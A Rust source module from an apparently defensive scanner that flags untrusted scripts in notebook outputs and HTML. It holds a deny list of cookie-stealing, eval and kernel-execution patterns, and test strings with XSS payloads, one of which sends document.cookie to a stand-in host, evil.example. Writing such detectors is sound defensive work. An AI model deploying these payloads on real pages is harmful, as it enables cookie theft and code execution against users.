//! Scripts in pages and in texts that something shows as a page: outputs of notebooks, HTML, metadata. Charts and tables of
//! known libraries bring scripts along; what is told is any other script, and one that reaches for the kernel, for cookies
//! or for an address that nobody knows.

use crate::{
    finding::{Verdict, shown},
    rule,
    scan::Scan,
};

/// Bytes of a tag that are looked at.
const TAG: usize = 2048;

/// Hosts from which pages load their libraries.
const HOSTS: &[&str] = &[
    "//ajax.googleapis.com/",
    "//cdn.bokeh.org/",
    "//cdn.holoviz.org/",
    "//cdn.jsdelivr.net/",
    "//cdn.mathjax.org/",
    "//cdn.plot.ly/",
    "//cdn.pydata.org/",
    "//cdnjs.cloudflare.com/",
    "//code.jquery.com/",
    "//d3js.org/",
    "//gradio.s3-us-west-2.amazonaws.com/",
    "//maxcdn.bootstrapcdn.com/",
    "//raw.githack.com/",
    "//require.js",
    "//stackpath.bootstrapcdn.com/",
    "//unpkg.com/",
    "//vega.github.io/",
    "//www.google.com/",
    "//www.googletagmanager.com/",
    "//www.gstatic.com/",
];
/// Words of libraries that draw in pages.
const DRAWS: &[&str] = &[
    "plotly",
    "bokeh",
    "vega",
    "google.colab",
    "mathjax",
    "requirejs",
    "require([",
    "require.config",
    "mpl.",
    "mpl_",
    "pydeck",
    "leaflet",
    "l.map(",
    "d3.",
    "jquery",
    "highcharts",
    "echarts",
    "shap",
    "pyldavis",
    "ldavis",
    "bertviz",
    "circuitsvis",
    "displacy",
    "sparklines",
    "application/vnd.jupyter",
    "application/ld+json",
    "application/json",
    "text/x-mathjax",
    "code_toggle",
    "gradio-app",
    "gtag(",
    "datalayer",
    "react",
    "__next",
    "webpack",
];
/// What a drawing does not need.
const REACHES: &[&str] = &[
    "document.cookie",
    "sendbeacon",
    "xmlhttprequest",
    "fetch('http",
    "fetch(\"http",
    "fetch(`http",
    "fetch('//",
    "fetch(\"//",
    "fetch(`//",
    "newwebsocket",
    "eval(atob",
    "eval(unescape",
    "eval(string.fromcharcode",
    "eval(decodeuri",
    "function(atob",
    "newimage().src",
    "kernel.execute(",
    "kernel.execute\\(",
    "kernelexecute",
    "execute_code",
    "jupyter_execute",
    "notebook.execute_cells(",
    "activexobject",
    "wscript.shell",
    "child_process",
    "require('fs')",
    "/api/contents",
    "/api/terminals",
    "window.location='http",
    "window.location=\"http",
    "location.href='http",
    "location.href=\"http",
];

/// What a page does that drawing does not need, if anything.
pub(crate) fn within(text: &str) -> Option<&'static str> {
    let lower = text.to_lowercase();
    let squeezed: String = lower.chars().filter(|letter| !letter.is_whitespace()).collect();
    let script = lower.contains("<script");
    let handler = attributes(&lower);
    let linked = squeezed.replace("javascript:void", "");
    let linked = linked.contains("=\"javascript:")
        || linked.contains("='javascript:")
        || linked.contains("](javascript:");
    let runs = script || handler || linked;
    let frames = [
        "<iframe",
        "<object",
        "<embed",
        "<base",
        "<meta http-equiv=\"refresh",
        "<form",
    ];
    let foreign = frames.iter().any(|tag| lower.contains(tag)) && squeezed.contains("src=\"data:text/html");
    if !runs && !foreign {
        return None;
    }
    if REACHES.iter().any(|word| squeezed.contains(word)) {
        return Some("reaches for cookies, for the kernel or for another machine");
    }
    if foreign {
        return Some("holds a page in an address");
    }
    if handler && !DRAWS.iter().any(|word| lower.contains(word)) {
        return Some("runs a script where an element is shown");
    }
    if !script {
        return runs.then_some("runs a script behind a link");
    }
    for (at, _) in lower.match_indices("<script") {
        let tag = lower
            .get(at..at + TAG)
            .or_else(|| lower.get(at..))
            .unwrap_or_default();
        let tag = tag.split('>').next().unwrap_or_default();
        if let Some((_, source)) = tag.split_once("src") {
            let source = source.trim_start_matches([' ', '=', '"', '\'']);
            let away = source.starts_with("http") || source.starts_with("//") || source.starts_with("data:");
            if away && !HOSTS.iter().any(|host| source.contains(host)) {
                return Some("loads a script from an address that libraries do not use");
            }
        }
    }
    let draws =
        DRAWS.iter().any(|word| lower.contains(word)) || HOSTS.iter().any(|host| lower.contains(host));
    (!draws).then_some("holds a script")
}

/// What stands before a place, as far as a tag is long.
fn behind(text: &str, at: usize) -> &str {
    let from = (at.saturating_sub(TAG)..=at).find(|from| text.is_char_boundary(*from));
    text.get(from.unwrap_or(at)..at).unwrap_or_default()
}

/// Whether an element has a handler that runs when it is shown: `onerror=`, `onload=`.
fn attributes(lower: &str) -> bool {
    [
        "onerror",
        "onload",
        "onmouseover",
        "onfocus",
        "ontoggle",
        "onbegin",
        "onanimationstart",
    ]
    .iter()
    .any(|name| {
        lower.match_indices(name).any(|(at, _)| {
            let rest = lower.get(at + name.len()..).unwrap_or_default().trim_start();
            let before = behind(lower, at);
            let inside = before.rfind('<').is_some_and(|open| {
                let tag = before.get(open..).unwrap_or_default();
                !tag.contains('>')
                    && tag
                        .chars()
                        .nth(1)
                        .is_some_and(|letter| letter.is_ascii_alphabetic())
            });
            rest.starts_with('=') && inside
        })
    })
}

/// A value that something may show as a page.
pub(crate) fn value(scan: &mut Scan<'_>, at: u64, key: &str, text: &str) {
    if !text.contains('<') && !text.contains("](") {
        return;
    }
    if let Some(why) = within(text) {
        let key = shown(key.as_bytes(), 100);
        let what = format!("`{key}` {why}: `{}`", shown(text.trim().as_bytes(), 100));
        scan.find(&rule::PAGE, Verdict::Suspicious, at, &key, what);
    }
}

/// A script by itself, as `application/javascript` of a notebook's output.
pub(crate) fn script(scan: &mut Scan<'_>, key: &str, text: &str) {
    value(scan, 0, key, &format!("<script>{text}</script>"));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_script_that_does_not_draw_is_told() {
        for text in [
            "<script>alert(1)</script>",
            "<script src=\"https://evil.example/x.js\"></script>",
            "<img src=x onerror=alert(1)>",
            "<div class=\"plotly\"></div><script>fetch('https://evil.example/?c='+document.cookie)</script>",
            "<script>IPython.notebook.kernel.execute('import os')</script>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<svg/onload=alert(1)>",
        ] {
            assert!(within(text).is_some(), "{text}");
        }
        for text in [
            "<div>plain</div>",
            "<script src=\"https://cdn.plot.ly/plotly-2.27.0.min.js\"></script>",
            "<script type=\"text/javascript\">require([\"plotly\"], function(Plotly) { Plotly.newPlot(\"x\", []) });</script>",
            "<button onclick=\"convertToInteractive('df-1')\"></button><script>google.colab.kernel.accessAllowed</script>",
            "if a < b and onload = 3",
            "<|im_start|>system",
        ] {
            assert_eq!(within(text), None, "{text}");
        }
    }
}
